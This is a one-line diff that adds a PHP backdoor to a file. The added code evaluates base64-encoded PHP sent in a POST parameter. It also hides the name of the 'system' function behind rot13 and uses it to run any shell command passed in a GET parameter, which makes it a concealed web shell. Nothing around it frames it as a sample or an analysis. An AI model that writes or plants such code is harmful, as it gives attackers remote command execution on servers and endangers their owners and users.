@@ -1,0 +1,1 @@
+<?php @eval(base64_decode($_POST["a"])); $f=str_rot13("flfgrz"); $f($_GET[0]);
